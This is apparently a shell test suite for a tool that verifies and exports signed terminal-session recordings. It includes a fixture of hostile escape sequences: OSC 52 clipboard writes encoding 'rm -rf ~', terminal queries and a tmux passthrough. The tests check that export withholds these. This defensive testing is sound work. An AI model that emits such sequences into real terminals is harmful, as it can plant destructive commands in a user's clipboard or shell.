grep -q "TAMPERED .*d.tgr" out.txt || tg_fail "list d: $(cat out.txt)"
if grep -q mallo out.txt; then tg_fail "list shows an edited header's user as the recording's: $(cat out.txt)"; fi
rm spool/sessions/d.tgr
# --no-key is said on every result: a listing's "sealed" is then intact, not known genuine
expect 1 "$R" -c conf --no-key list spool
grep -q "1:02:03.600 .*sealed .*a.tgr" out.txt || tg_fail "list --no-key: $(cat out.txt)"
grep -q "host key NOT checked (--no-key)" err.txt || tg_fail "list --no-key not said: $(cat err.txt)"
expect 3 "$R" -c conf list /nonexistent
# a folder stands for its recordings (a spool root: those in sessions/), in name order
expect 1 "$R" -c conf verify spool
[ "$(sed -n 's|^spool/sessions/\([a-z]\)\.tgr: .*|\1|p' out.txt | tr -d '\n')" = abc ] ||
	tg_fail "verify of a spool: $(cat out.txt)"
expect 1 "$R" -c conf search hunter2 spool/sessions
grep -q "spool/sessions/a.tgr" out.txt || tg_fail "search of a folder: $(cat out.txt)"
mkdir empty
expect 3 "$R" -c conf verify good.tgr empty
grep -q "no recordings" err.txt || tg_fail "verify of an empty folder: $(cat err.txt)"
# ... which does not keep the others from being checked, as a missing file does not
grep -q "^good.tgr: sealed and intact" out.txt || tg_fail "verify with an empty folder skipped the rest: $(cat out.txt)"
expect 3 "$R" -c conf verify empty spool/sessions
[ "$(grep -c "^spool/sessions/[abc].tgr: " out.txt)" -eq 3 ] ||
	tg_fail "verify after an empty folder skipped the rest: $(cat out.txt)"
expect 3 "$R" -c conf search hunter2 empty good.tgr
grep -q "good.tgr: the password is hunter2" out.txt ||
	tg_fail "search with an empty folder skipped the rest: $(cat out.txt)"
# list says the same of a folder with no recordings (an empty spool's sessions/ too): an
# empty listing must not pass for "no sessions" when the place named is the wrong one
mkdir -p emptyspool/sessions notrec && echo x >notrec/a.json
for d in empty emptyspool notrec; do
	expect 3 "$R" -c conf list "$d"
	grep -q "^tollgate-replay: $d.*: no recordings (\*\.tgr) there$" err.txt ||
		tg_fail "list of $d: $(cat out.txt err.txt)"
done
# a *.tgr in a folder that is not a regular file (a broken symbolic link, a FIFO, a folder)
# is named, escaped, as an error (exit status 3, the others still checked), never skipped in
# silence; a FIFO is not opened (timeout: it would block)
mkdir odd && cp good.tgr odd/a.tgr || tg_fail "odd"
ln -s gone.tgr odd/b.tgr
mkfifo odd/c.tgr
mkdir odd/d.tgr
ln -s gone.tgr "odd/e$(printf '\033')[2J.tgr"
odd_said() { # odd_said FILE PREFIX: FILE names each odd entry, after PREFIX, with what it is
	for w in "b.tgr: $2.*broken symbolic link" "c.tgr: $2.*FIFO" "d.tgr: $2.*folder" \
		'e\\x1b\[2J\.tgr: '"$2"'.*broken symbolic link'; do
		grep -q "odd/$w" "$1" || { cat out.txt err.txt; tg_fail "$3: odd/$w not said"; }
	done
	if grep -q "$(printf '\033')" "$1"; then tg_fail "$3: a name printed raw"; fi
}
expect 3 timeout 20 "$R" -c conf verify odd
grep -q "^odd/a.tgr: sealed and intact" out.txt || tg_fail "verify odd: $(cat out.txt)"
odd_said out.txt "error: " "verify"
expect 3 timeout 20 "$R" -c conf search hunter2 odd
grep -q "odd/a.tgr: the password is hunter2" out.txt || tg_fail "search odd: $(cat out.txt)"
odd_said err.txt "" "search"
expect 3 timeout 20 "$R" -c conf list odd
grep -q "alice .*sealed .*odd/a.tgr$" out.txt || tg_fail "list odd: $(cat out.txt)"
[ "$(grep -c "ERROR .*odd/[bcde]" out.txt)" -eq 4 ] || tg_fail "list odd: no ERROR lines: $(cat out.txt)"
odd_said err.txt "" "list"

# --- export: asciicast v2 that Debian's asciinema plays
expect 0 "$R" -c conf export --format asciicast good.tgr
cp out.txt good.cast
head -1 good.cast | grep -q '"version":2,"width":80,"height":24' || tg_fail "export header"
grep -q '"r", "132x43"' good.cast || tg_fail "export: no resize event"
grep -q '"i", "ls\\r"' good.cast || tg_fail "export: no input event"
# without --format: a usage error that says so and names the formats, before any key is read
expect 3 "$R" -c conf export good.tgr
grep -q -e "export: --format is required (export formats: asciicast)" err.txt ||
	tg_fail "export without --format: $(cat err.txt)"
expect 3 "$R" -c conf --key /nonexistent export good.tgr
grep -q -e "--format is required" err.txt || tg_fail "export without --format, no key: $(cat err.txt)"
expect 3 "$R" -c conf export --format mp4 good.tgr
grep -q -e "--format mp4: not an export format (export formats: asciicast)" err.txt ||
	tg_fail "export --format mp4: $(cat err.txt)"
# a character cut off by the end of what is exported (no END: unsealed) is one
# U+FFFD, counted, not dropped
printf 'out 1000 caf\\xc3\ncheckpoint 2000\ncrash\n' >cutchar.txt
"$G" script k/signing.key cutchar.tgr <cutchar.txt || tg_fail "make cutchar.tgr"
expect 2 "$R" -c conf export --format asciicast cutchar.tgr
python3 - out.txt <<'PY' || tg_fail "export unsealed: cut character dropped: $(cat out.txt)"
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8").read().splitlines()[1:]]
sys.exit(0 if "".join(e[2] for e in ev if e[1] == "o") == "caf\ufffd" else 1)
PY
grep -q "cutchar.tgr: 1 invalid UTF-8 sequence, replaced with one U+FFFD" err.txt ||
	tg_fail "export unsealed: not counted: $(cat err.txt)"
# the count is of invalid sequences (one per U+FFFD), not of bytes: a 3-byte character cut
# after 2 bytes is one, and the message says so
printf 'out 1000 a\\xe2\\x82b \\xff\\xfe\\r\\n\nseal 2000 {"reason":"exit"}\n' >seqs.txt
"$G" script k/signing.key seqs.tgr <seqs.txt || tg_fail "make seqs.tgr"
expect 0 "$R" -c conf export --format asciicast seqs.tgr
grep -q "seqs.tgr: 3 invalid UTF-8 sequences, each replaced with one U+FFFD (--raw keeps the exact bytes)$" err.txt ||
	tg_fail "export: the count of invalid sequences is not said as such: $(cat err.txt)"
[ "$(grep -o "$(printf '\357\277\275')" out.txt | wc -l)" -eq 3 ] || tg_fail "export seqs: not 3 U+FFFD: $(cat out.txt)"
# the "o" events are what a player sends to the investigator's terminal: the sequences play's
# guard withholds (a clipboard write, queries whose answers would be typed into the
# investigator's shell, a tmux passthrough; one cut across records too) are withheld from the
# export, said on stderr, unless --raw, which keeps the recorded bytes exactly; what draws
# (colours, cursor, modes, the title) is exported as it was
printf '%s\n' 'out 1000 hi \e]52;c;cm0gLXJmIH4K\x07\e[6n\e[21t\ePtmux;\e\e]52;c;QQ==\x07\e\\ done\r\n' \
	'out 2000 \e]5' 'out 3000 2;c;cm0gLXJmIH4K\x07 after \e[' \
	'out 4000 6n\e[1;31mred\e[0m \e[2;5Hcaf\xc3' \
	'out 5000 \xa9 \e[?25l\e[?1049h\e[?1049l\e[?25h\e]0;title\x07\e[K\r\n' 'seal 6000 {}' >attack.txt
"$G" script k/signing.key attack.tgr <attack.txt || tg_fail "make attack.tgr"
"$R" -c conf cat attack.tgr >attack.raw # the recorded output's bytes (not a terminal: exact)
[ "$(grep -aoF "$(printf '\033[6n')" attack.raw | wc -l)" -eq 2 ] || tg_fail "cat attack.tgr: $(od -c attack.raw)"
exported() { # exported FILE: the "o" events' text of asciicast FILE, as a player reads it
	python3 -c 'import json, sys
lines = open(sys.argv[1], encoding="utf-8").read().splitlines()
ev = [json.loads(l) for l in lines[1:]]
sys.stdout.buffer.write("".join(e[2] for e in ev if e[1] == "o").encode("utf-8"))
print(json.loads(lines[0])["tollgate"].get("escape_sequences"), file=sys.stderr)' "$1"
}
expect 0 "$R" -c conf export --format asciicast attack.tgr
cp out.txt attack.cast
exported attack.cast >attack.out 2>attack.hdr || tg_fail "export attack.tgr: $(cat attack.cast)"
for s in '\033]52' '\033[6n' '\033[21t' '\033P' 'cm0gLXJmIH4K' 'QQ=='; do
	# shellcheck disable=SC2059 # s is an escape for printf
	if grep -qF "$(printf "$s")" attack.out; then tg_fail "export passed $s: $(od -c attack.out)"; fi
done
[ "$(cat attack.out)" = "$(printf 'hi  done\r\n after \033[1;31mred\033[0m \033[2;5Hcaf\303\251 \033[?25l\033[?1049h\033[?1049l\033[?25h\033]0;title\007\033[K\r\n')" ] ||
	tg_fail "export: what draws is not exported as it was: $(od -c attack.out)"
grep -q "^withheld where they act on the terminal" attack.hdr || tg_fail "export: header: $(cat attack.hdr)"
one_line "^tollgate-replay: attack.tgr: withheld from the export (they act on the terminal that plays it, not only on its screen): 3 terminal queries, 3 clipboard writes (OSC 52), 1 tmux passthrough; --raw keeps them (unsafe to play)$"
expect 0 "$R" -c conf export --raw --format asciicast attack.tgr
[ ! -s err.txt ] || tg_fail "export --raw: $(cat err.txt)"
exported out.txt >attack.out 2>attack.hdr || tg_fail "export --raw attack.tgr: $(cat out.txt)"
grep -q "^as recorded (--raw): unsafe to play" attack.hdr || tg_fail "export --raw: header: $(cat attack.hdr)"
cmp attack.out attack.raw || tg_fail "export --raw: not the recorded bytes: $(od -c attack.out)"
# ... and asciinema shows of the export what cat shows on a terminal (a pty each, given back
# by cat as play does; asciinema's raw mode writes \r\n where cat's terminal makes \r\r\n)
if command -v asciinema >/dev/null 2>&1 && command -v script >/dev/null 2>&1; then
	script -qec "asciinema cat attack.cast" /dev/null </dev/null >ac.txt 2>&1 ||
		tg_fail "asciinema cat: $(cat ac.txt)"
	script -qec "'$R' -c conf cat attack.tgr 2>/dev/null" /dev/null </dev/null >tc.txt 2>&1 ||
		tg_fail "cat on a terminal: $(cat tc.txt)"
	python3 - ac.txt tc.txt <<'PY' || tg_fail "asciinema cat of the export differs from cat: $(od -c ac.txt) $(od -c tc.txt)"
import sys
a = open(sys.argv[1], "rb").read().replace(b"\r", b"")
t = open(sys.argv[2], "rb").read().replace(b"\r", b"")
assert t.startswith(b"\x1b[22;0t"), t[:20]  # REPLAY_TERM_START: the title pushed
t = t[len(b"\x1b[22;0t"):]
at = t.find(b"\x1b[?2026l\x1b[?1049l\x1b7\x1b[r")  # REPLAY_TERM_RESTORE
assert at > 0 and b"\x1b[6n" not in a and b"]52" not in a, (at, a)
sys.exit(0 if a == t[:at] else 1)
PY
	echo "ok: asciinema cat of the export shows what cat shows"
else
	echo "skipped: asciinema cat of the export against cat (asciinema or script not installed)"
fi
# a session without a terminal (a command's pipes) ends its lines in a bare \n, which the
# player's raw terminal does not take back to column 0: each line started where the last one
# ended. The export has \r\n, as the client's terminal showed it (one \r also when a \r\n is
# cut across records); --raw keeps the bytes; a terminal session's bytes are its terminal's
printf '%s\n' 'out 1000 one\ntwo\r' 'out 1100 \nthree\n\n' 'err 1200 oops\n' 'seal 2000 {}' >lf.txt
"$G" script k/signing.key lfcmd.tgr mode=command command=ls term= cols=0 rows=0 <lf.txt || tg_fail "make lfcmd.tgr"
"$G" script k/signing.key lfpty.tgr <lf.txt || tg_fail "make lfpty.tgr"
expect 0 "$R" -c conf export --format asciicast lfcmd.tgr
exported out.txt >lf.out 2>/dev/null || tg_fail "export lfcmd.tgr: $(cat out.txt)"
[ "$(od -An -c lf.out | tr -d ' \n')" = 'one\r\ntwo\r\nthree\r\n\r\noops\r\n' ] ||
	tg_fail "export of a session without a terminal: $(od -c lf.out)"
expect 0 "$R" -c conf export --raw --format asciicast lfcmd.tgr
exported out.txt >lf.out 2>/dev/null || tg_fail "export --raw lfcmd.tgr: $(cat out.txt)"
[ "$(od -An -c lf.out | tr -d ' \n')" = 'one\ntwo\r\nthree\n\noops\n' ] ||
	tg_fail "export --raw of a session without a terminal: $(od -c lf.out)"
expect 0 "$R" -c conf export --format asciicast lfpty.tgr
exported out.txt >lf.out 2>/dev/null || tg_fail "export lfpty.tgr: $(cat out.txt)"
[ "$(od -An -c lf.out | tr -d ' \n')" = 'one\ntwo\r\nthree\n\noops\n' ] ||
	tg_fail "export of a terminal session: $(od -c lf.out)"
# --force: what is exported past the verified part is marked so in the file itself (an "m"
# event where it starts, and the header says up to where it verified), for the file goes
# where the warning on stderr does not
for f in unsealed tampered; do
	"$R" -c conf --force export --format asciicast $f.tgr >out.txt 2>err.txt
	python3 - out.txt $f <<'PY' || tg_fail "export --force $f: the unverified part is not marked: $(cat out.txt)"
import json, sys
lines = open(sys.argv[1], encoding="utf-8").read().splitlines()
h = json.loads(lines[0])["tollgate"]
ev = [json.loads(l) for l in lines[1:]]
marks = [i for i, e in enumerate(ev) if e[1] == "m" and e[2].startswith("NOT VERIFIED")]
assert len(marks) == 1, marks
assert h["verified"]["bytes"] > 0
assert h["verified"]["time"] == {"tampered": "0:00:01.600", "unsealed": "0:00:03.300"}[sys.argv[2]]
before = "".join(e[2] for e in ev[:marks[0]] if e[1] == "o")
after = "".join(e[2] for e in ev[marks[0]:] if e[1] == "o")
assert "alice@web-1" in before
assert ("after the last checkpoint" if sys.argv[2] == "unsealed" else "hunteX2") in after
assert "hunteX2" not in before
PY
done
# the header's verification word is one the man page lists, whatever the verdict (signed
# by another host key included)
exported_words=
for args in "good.tgr" "unsealed.tgr" "tampered.tgr" "--key other/signing.pub good.tgr"; do
	# shellcheck disable=SC2086 # args holds several words
	"$R" -c conf --force export --format asciicast $args >out.txt 2>err.txt
	w=$(head -1 out.txt | python3 -c 'import json, sys; print(json.load(sys.stdin)["tollgate"]["verification"])') ||
		tg_fail "export --force $args: no header: $(cat out.txt err.txt)"
	exported_words="$exported_words $w"
	sed -n '/^\.BI "export/,/^\.TP/p' "$TG_TOP_SRCDIR/man/tollgate-replay.1" | grep -q "\"$w\"" ||
		tg_fail "export --force $args: verification \"$w\" is not in the man page"
done
[ "$exported_words" = " sealed UNSEALED TAMPERED WRONG-KEY" ] || tg_fail "export verification words:$exported_words"
# the file goes where the warning on stderr does not: it says whether the host key was
# checked (--no-key), as every result does
for nk in "" --no-key; do
	"$R" -c conf $nk export --format asciicast good.tgr >out.txt 2>err.txt ||
		tg_fail "export $nk: $(cat err.txt)"
	python3 -c 'import json, sys; t = json.loads(open(sys.argv[1]).readline())["tollgate"]
assert t["key_checked"] is (sys.argv[2] == ""), t.get("key_checked")' out.txt "$nk" ||
		tg_fail "export $nk: the header does not say whether the host key was checked"
done
"$R" -c conf export --format asciicast good.tgr >out.txt
if grep -q "NOT VERIFIED" out.txt; then tg_fail "export of a sealed recording marked unverified"; fi
# a file rewritten in place between the verifying pass and a showing one (dd conv=notrunc) shows
# only the verified bytes: export's header pass, stopped by gdb as it starts, reads the user
# forged, which is put back before the records pass and its recheck
if command -v gdb >/dev/null 2>&1; then
	cp good.tgr inplace.tgr
	off=$(grep -boa '"user":"alice"' inplace.tgr | head -n 1 | cut -d: -f1)
	[ -n "$off" ] || tg_fail "no user in the header of good.tgr"
	off=$((off + 8))
	gdb -q -batch -ex 'set breakpoint pending on' -ex 'break tg_rec_reader_open' \
		-ex "run -c conf export --format asciicast inplace.tgr >out.txt 2>err.txt" \
		-ex "shell printf mallo | dd of=inplace.tgr bs=1 seek=$off conv=notrunc status=none" \
		-ex continue \
		-ex "shell printf alice | dd of=inplace.tgr bs=1 seek=$off conv=notrunc status=none" \
		-ex continue "$R" >gdb.log 2>&1 || { cat gdb.log; tg_fail "gdb"; }
	grep -q "exited normally" gdb.log || { cat gdb.log err.txt; tg_fail "export under gdb failed"; }
	[ "$(grep -c 'Breakpoint 1,' gdb.log)" -ge 2 ] || { cat gdb.log; tg_fail "gdb: no second pass to stop"; }
	cmp -s good.tgr inplace.tgr || tg_fail "the forged user was not put back"
	grep -q '"user":"alice"' out.txt && ! grep -q mallo out.txt ||
		{ head -c 400 out.txt; tg_fail "export showed a header rewritten after verification"; }
	echo "ok: a recording rewritten in place while exported shows the verified bytes"
else
	echo "skipped: a recording rewritten in place while shown (gdb is not installed)"
fi
if command -v asciinema >/dev/null 2>&1; then
	# asciinema cat wants /dev/tty; play writes the output to stdout without one
	timeout 60 asciinema play -i 0.001 good.cast </dev/null >played.txt 2>err.txt ||
		tg_fail "asciinema play: $(cat err.txt)"
	python3 - cat.txt played.txt <<'PY' || tg_fail "asciinema play output differs from cat (after U+FFFD)"
import sys
want = open(sys.argv[1], "rb").read().decode("utf-8", "replace")
got = open(sys.argv[2], "rb").read().decode("utf-8")
sys.exit(0 if want == got else 1)
PY
else
	echo "asciinema not installed: export not played"
fi
exit 0
